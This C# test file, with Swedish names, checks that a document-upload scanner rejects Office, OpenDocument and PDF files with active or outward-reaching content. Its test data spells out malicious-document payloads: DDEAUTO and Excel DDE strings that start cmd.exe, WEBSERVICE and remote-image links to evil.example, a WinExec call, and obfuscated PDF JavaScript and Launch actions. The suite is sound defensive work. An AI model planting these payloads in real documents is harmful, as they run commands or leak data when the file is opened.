using System.Diagnostics;
using System.Text;
using CaseFlow.Application.Handlingar;
using CaseFlow.Domain.Handlingar;
using CaseFlow.Testing;

namespace CaseFlow.Application.Tests.Handlingar;

/// <summary>What runs, fetches or hides in a file that is otherwise what it says.</summary>
public sealed class AktivtInnehallTests
{
    private const string W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'";

    [Theory]
    [InlineData("word/embeddings/oleObject1.bin")]
    [InlineData("word/embeddings/Microsoft_Excel_Sheet1.xlsx")]
    [InlineData("word/Embeddings/x.xml")]
    [InlineData("word/media/oleObject7.xml")]
    [InlineData("word/afchunk.xml")]
    public void Inbaddade_delar_nekas_efter_namnet(string namn) => Nekas(Provfil.Word((namn, [1])), Filtyp.Word, "inbäddat");

    [Fact]
    public void Activex_ar_ett_makro() => Nekas(Provfil.Word(("word/activeX/activeX1.xml", [1])), Filtyp.Word, "makron");

    [Theory]
    [InlineData("oleObject", "inbäddat")]
    [InlineData("package", "inbäddat")]
    [InlineData("aFChunk", "inbäddat")]
    [InlineData("subDocument", "inbäddat")]
    [InlineData("control", "makron")]
    [InlineData("vbaProject", "makron")]
    [InlineData("connections", "annan plats")]
    public void Inbaddade_delar_nekas_efter_relationen_vad_de_an_heter(string slag, string fel) =>
        Nekas(Provfil.Word(Rel($"Type='http://schemas/{slag}' Target='media/bild1.png'")), Filtyp.Word, fel);

    [Theory]
    [InlineData("Type='x/image' TargetMode='External' Target='https://evil.example/x'")]
    [InlineData("Type='x/image' TargetMode='external' Target='https://evil.example/x'")]
    [InlineData("Type='x/image' targetmode='EXTERNAL' Target='https://evil.example/x'")]
    [InlineData("Type='x/image' TargetMode=' eXternal ' Target='x'")]
    [InlineData("Type='x/image' Target='https://evil.example/x'")]
    [InlineData(@"Type='x/image' Target='\\evil.example\x'")]
    [InlineData("Type='x/image' Target='//evil.example/x'")]
    [InlineData("Type='x/attachedTemplate' TargetMode='External' Target='file:///c:/mall.dotm'")]
    [InlineData("Type='x/hyperlink' TargetMode='External' Target='file://evil.example/x'")]
    [InlineData(@"Type='x/hyperlink' TargetMode='External' Target='\\evil.example\x'")]
    [InlineData("Type='x/hyperlink' TargetMode='External' Target='javascript:x'")]
    [InlineData("Type='x/hyperlink' TargetMode='External' Target='ms-word:ofe|u|https://evil.example/x'")]
    [InlineData("Type='x/externalLinkPath' TargetMode='External' Target='annan.xlsx'")]
    public void Det_som_pekar_ut_ur_dokumentet_nekas_hur_det_an_skrivs(string relation)
    {
        Nekas(Provfil.Word(Rel(relation)), Filtyp.Word, "annan plats");
        Nekas(Provfil.Excel(("xl/_rels/workbook.xml.rels", Utf8($"<R><R {relation}/></R>"))), Filtyp.Excel, "annan plats");
    }

    [Theory]
    [InlineData("Type='x/hyperlink' TargetMode='External' Target='https://skarpnack.example/blankett'")]
    [InlineData("Type='x/hyperlink' TargetMode='EXTERNAL' Target='HTTP://skarpnack.example'")]
    [InlineData("Type='x/hyperlink' TargetMode='External' Target='mailto:hanna@skarpnack.example'")]
    [InlineData("Type='x/image' Target='media/bild1.png'")]
    [InlineData("Type='x/image' TargetMode='Internal' Target='/word/media/bild1.png'")]
    public void En_lank_att_klicka_pa_och_dokumentets_egna_delar_godtas(string relation) => Godtas(Provfil.Word(Rel(relation)), Filtyp.Word);

    [Fact]
    public void Altchunk_och_ole_i_texten_nekas()
    {
        Nekas(Dokument("<w:altChunk r:id='r1' xmlns:r='r'/>"), Filtyp.Word, "inbäddat");
        Nekas(Dokument("<w:object><o:OLEObject xmlns:o='o' Type='Link'/></w:object>"), Filtyp.Word, "inbäddat");
        Nekas(Provfil.Word(("word/del.mht", [1])), Filtyp.Word, "inte hör hemma");
        Nekas(Innehallstyp("<Override PartName='/word/del.xml' ContentType='message/rfc822'/>"), Filtyp.Word, "inbäddat");
        Nekas(Innehallstyp("<Default Extension='png' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml'/>"), Filtyp.Word, "inte hör hemma");
    }

    [Theory]
    [InlineData("""INCLUDEPICTURE "https://evil.example/p.png" \d""")]
    [InlineData("""  includetext "\\evil.example\x.docx" """)]
    [InlineData("""DDEAUTO c:\windows\system32\cmd.exe "/k calc" """)]
    [InlineData("dde excel bok1 r1")]
    [InlineData("LINK Excel.Sheet.12 bok.xlsx")]
    [InlineData("RD annan.docx")]
    [InlineData("""HYPERLINK "file://evil.example/x" """)]
    [InlineData("""HYPERLINK \\evil.example\x""")]
    public void Falt_som_hamtar_nekas(string kod)
    {
        Nekas(Dokument($"<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>{Xml(kod)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"), Filtyp.Word, "annan plats");
        Nekas(Dokument($"<w:fldSimple w:instr='{Xml(kod)}'/>"), Filtyp.Word, "annan plats");
        // Delad i bitar, struken, aldrig avslutad, i sidhuvudet.
        Nekas(Dokument(string.Concat(kod.Select(t => $"<w:r><w:instrText xml:space='preserve'>{Xml(t.ToString())}</w:instrText></w:r>"))), Filtyp.Word, "annan plats");
        Nekas(Dokument($"<w:fldChar w:fldCharType='BEGIN'/><w:delInstrText>{Xml(kod)}</w:delInstrText>"), Filtyp.Word, "annan plats");
        Nekas(Provfil.Word(("word/header1.xml", Utf8($"<w:hdr {W}><w:fldSimple w:instr='{Xml(kod)}'/></w:hdr>"))), Filtyp.Word, "annan plats");
    }

    [Fact]
    public void Ett_falt_vars_namn_skrivs_av_ett_annat_falt_nekas()
    {
        const string B = "<w:fldChar w:fldCharType='begin'/>", S = "<w:fldChar w:fldCharType='end'/>";
        Nekas(Dokument($"{B}{B}<w:instrText>QUOTE 68 68 69</w:instrText>{S}<w:instrText> c:\\x</w:instrText>{S}"), Filtyp.Word, "annan plats");
        Nekas(Dokument($"{B}<w:instrText>D</w:instrText>{B}<w:instrText>QUOTE 68 69</w:instrText>{S}{S}"), Filtyp.Word, "annan plats");
        Godtas(Dokument($"{B}<w:instrText> IF </w:instrText>{B}<w:instrText> MERGEFIELD kon </w:instrText>{S}<w:instrText> = \"k\" </w:instrText>{S}"), Filtyp.Word);
    }

    [Theory]
    [InlineData("PAGE")]
    [InlineData("TOC \\o \"1-3\" \\h")]
    [InlineData("HYPERLINK \"https://skarpnack.example\" \\o \"till enheten\"")]
    [InlineData("HYPERLINK \\l \"_Toc1\"")]
    [InlineData("MACROBUTTON NoMacro [Skriv namnet]")]
    public void Vanliga_falt_godtas(string kod) => Godtas(Dokument($"<w:fldSimple w:instr='{Xml(kod)}'/><w:p>DDEAUTO i en vanlig mening</w:p>"), Filtyp.Word);

    [Theory]
    [InlineData("<c><f>cmd|'/c calc'!A1</f></c>")]
    [InlineData("<c><f>_xlfn.WEBSERVICE(\"https://evil.example/\"&amp;A1)</f></c>")]
    [InlineData("<c><f>_xlfn.IMAGE (A1)</f></c>")]
    [InlineData("<definedName>CALL(\"kernel32\",\"WinExec\")</definedName>")]
    [InlineData("<externalLink><ddeLink ddeService='cmd'/></externalLink>")]
    public void Formler_som_nar_ut_ur_arbetsboken_nekas(string xml) =>
        Nekas(Provfil.Excel(("xl/worksheets/sheet1.xml", Utf8($"<x>{xml}</x>"))), Filtyp.Excel, "annan plats");

    [Fact]
    public void Vanliga_formler_godtas() =>
        Godtas(Provfil.Excel(("xl/worksheets/sheet1.xml", Utf8("<x><c><f>IF(A1=\"a|b\",SUM('Blad|1'!A1:A9),MYCALL(2))</f></c></x>"))), Filtyp.Excel);

    [Theory]
    [InlineData("<draw:image x:href='https://evil.example/p.png'/>", "annan plats")]
    [InlineData("<draw:image x:href='//evil.example/p.png'/>", "annan plats")]
    [InlineData("<draw:image x:href='../../hemligt.png'/>", "annan plats")]
    [InlineData("<text:section-source x:href='annan.odt'/>", "annan plats")]
    [InlineData("<text:a x:href='file:///etc/passwd'/>", "annan plats")]
    [InlineData("<text:a x:href='vnd.sun.star.script:x'/>", "annan plats")]
    [InlineData("<meta:template x:href='https://evil.example/mall.ott'/>", "annan plats")]
    [InlineData("<text:dde-connection-decl/>", "annan plats")]
    [InlineData("<draw:object x:href='./Object 1'/>", "inbäddat")]
    [InlineData("<draw:object-ole x:href='./Object 1'/>", "inbäddat")]
    [InlineData("<script:event-listener x:href='vnd.sun.star.script:x'/>", "makron")]
    [InlineData("<office:script/>", "makron")]
    public void Odt_som_hamtar_bar_eller_kor_nekas(string xml, string fel)
    {
        Nekas(Odt("styles.xml", xml), Filtyp.OpenDocument, fel);
        Nekas(Odt("Object 1/content.xml", xml), Filtyp.OpenDocument, fel);
    }

    [Theory]
    [InlineData("<draw:image x:href='Pictures/1.png'/>")]
    [InlineData("<text:a x:href='https://skarpnack.example'/>")]
    [InlineData("<text:a x:href='#rubrik'/>")]
    [InlineData("<office:scripts/>")]
    [InlineData("<meta:template x:href='file:///home/hanna/mall.ott'/>")]
    public void Vanlig_odt_godtas(string xml) => Godtas(Odt("styles.xml", xml), Filtyp.OpenDocument);

    [Theory]
    [InlineData("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")]
    [InlineData("/OpenAction<</S /J#61vaScr#69pt /JS(x)>>")]
    [InlineData("/AA<</O<</S/#4Aava#53cript>>>>")]
    [InlineData("/OpenAction<</S/Launch/F(cmd.exe)>>")]
    [InlineData("/OpenAction<</S/URI/URI(https://evil.example)>>")]
    [InlineData("/Open#41ction <</Next<</S/GoTo>>/S/SubmitForm/F(x)>>")]
    [InlineData("/Annots[<</Subtype/RichMedia>>]")]
    [InlineData("/AcroForm<</XFA[(x)]>>")]
    [InlineData("/X(https://exempel.se)/A/http:///S/JavaScript")]
    public void Pdf_som_kor_eller_startar_nekas(string katalog) => Nekas(Provfil.PdfMed(katalog), Filtyp.Pdf, "startar");

    [Theory]
    [InlineData("/Names<</EmbeddedFiles 5 0 R>>")]
    [InlineData("/Names<</#45mbedded#46iles 5 0 R>>")]
    [InlineData("/Annots[<</Subtype/FileAttachment>>]")]
    public void Pdf_med_en_fil_inuti_nekas(string katalog) => Nekas(Provfil.PdfMed(katalog), Filtyp.Pdf, "inuti sig");

    [Fact]
    public void Det_som_star_i_en_packad_objektstrom_ses()
    {
        var skript = "7 0 <</S/J#61vaScript/JS(x)>>";
        Nekas(Provfil.PdfMed("/OpenAction 7 0 R", Provfil.Packad("/Type/ObjStm/N 1/First 4", skript)), Filtyp.Pdf, "startar");
        // Utan /Type, med ordet obj i en text: den som läser filen frågar efter /First.
        Nekas(Provfil.PdfMed("", Provfil.Packad("/N 1/First 4", skript)), Filtyp.Pdf, "startar");
        Nekas(Provfil.PdfMed("", Provfil.Packad("/N 1/F#69rst 4/X(1 0 obj)", skript)), Filtyp.Pdf, "startar");
        Nekas(Provfil.PdfMed("", Provfil.Packad("/Type/ObjStm/N 1/First 4", "7 0 <</EmbeddedFiles 8 0 R>>")), Filtyp.Pdf, "inuti sig");
        // Åtgärden vid öppning står i ett annat objekt, löst eller packat.
        Nekas(Provfil.PdfMed("/OpenAction 2 0 R", "<</S/URI/URI(https://evil.example)>>"u8.ToArray()), Filtyp.Pdf, "startar");
        Nekas(Provfil.PdfMed("/OpenAction 9 0 R", Provfil.Packad("/Type/ObjStm/N 2/First 9", "7 0 9 11 <</A 1>>  <</S/URI/URI(x)>>")), Filtyp.Pdf, "startar");
    }

    [Fact]
    public void En_objektstrom_som_inte_gar_att_granska_nekas()
    {
        Nekas(Provfil.PdfMed("", Provfil.Packad("/Type/ObjStm/N 1/First 4", "7 0 <<>>", "/Filter[/ASCIIHexDecode/FlateDecode]")), Filtyp.Pdf, "granska");
        Nekas(Provfil.PdfMed("", Provfil.Packad("/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12>>", "7 0 <<>>")), Filtyp.Pdf, "granska");
        Nekas(Provfil.PdfMed("", [.. "<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"u8, 1, 2, 3, 4, 5, 6, .. "\nendstream"u8]), Filtyp.Pdf, "granska");
    }

    [Fact]
    public void Vanlig_pdf_godtas()
    {
        Godtas(Provfil.PdfMed("/OpenAction[3 0 R/Fit]/URI<</Base(https://skarpnack.example)>>"), Filtyp.Pdf);
        Godtas(Provfil.PdfMed("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "<</A<</S/URI/URI(https://exempel.se/JavaScript/Launch)>>>>"u8.ToArray()), Filtyp.Pdf);
        Godtas(Provfil.PdfMed("", Provfil.Packad("/Type/ObjStm/N 1/First 4", "7 0 <</Type/Page>>"), Provfil.Packad("/Length1 3", "BT (JavaScript /Kort) Tj ET")), Filtyp.Pdf);
        // En disposition (/First) intill en bild: det som inte är en objektström prövas men nekas inte.
        Godtas(Provfil.PdfMed("", "<</First 3 0 R>>"u8.ToArray(), [.. "<</Filter/DCTDecode>>stream\n"u8, 0xFF, 0xD8, .. "\nendstream"u8]), Filtyp.Pdf);
    }

    [Fact]
    public void Fientliga_filer_granskas_i_bunden_tid()
    {
        var klocka = Stopwatch.StartNew();
        Nekas(Provfil.PdfMed("", Provfil.Packad("/Type/ObjStm/N 1/First 4", new string(' ', 120 * 1024 * 1024))), Filtyp.Pdf, "mycket större");
        Godtas(Provfil.PdfMed(string.Concat(Enumerable.Repeat("/a", 5_000_000))), Filtyp.Pdf);
        Godtas(Provfil.PdfMed(string.Concat(Enumerable.Repeat("stream\n", 1_000_000))), Filtyp.Pdf);
        Godtas(Provfil.PdfMed("/OpenAction 7 0 R" + string.Concat(Enumerable.Repeat("9 0 obj ", 1_000_000))), Filtyp.Pdf);
        Nekas(Dokument(string.Concat(Enumerable.Repeat("<w:p>", 100_000))), Filtyp.Word, "trasig");
        Nekas(Dokument(string.Concat(Enumerable.Repeat("<w:fldChar w:fldCharType='begin'/><w:instrText>IF </w:instrText>", 1000))), Filtyp.Word, "annan plats");
        Nekas(Dokument(new string('x', 21 * 1024 * 1024)), Filtyp.Word, "");
        Assert.True(klocka.Elapsed < TimeSpan.FromSeconds(30), $"{klocka.Elapsed}");
    }

    private static (string, byte[]) Rel(string relation) => ("word/_rels/document.xml.rels", Utf8($"<Relationships><Relationship Id='r1' {relation}/></Relationships>"));

    private static byte[] Dokument(string xml) => Provfil.Word(("word/footnotes.xml", Utf8($"<w:footnotes {W}>{xml}</w:footnotes>")));

    private static byte[] Innehallstyp(string rad) => Provfil.Zip(
        ("[Content_Types].xml", Utf8($"<Types>{rad}<Override PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>")),
        ("word/document.xml", Utf8("<d/>")));

    private static byte[] Odt(string del, string xml) =>
        Provfil.Odt((del, Utf8($"<o xmlns:x='http://www.w3.org/1999/xlink' xmlns:draw='d' xmlns:text='t' xmlns:meta='m' xmlns:script='s' xmlns:office='o'>{xml}</o>")));

    private static string Xml(string text) => System.Security.SecurityElement.Escape(text);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static void Godtas(byte[] innehall, Filtyp typ) => Assert.Null(Filgranskning.Prova(new MemoryStream(innehall), typ));

    private static void Nekas(byte[] innehall, Filtyp typ, string med)
    {
        var fel = Filgranskning.Prova(new MemoryStream(innehall), typ);
        Assert.NotNull(fel);
        Assert.Contains(med, fel, StringComparison.Ordinal);
    }
}
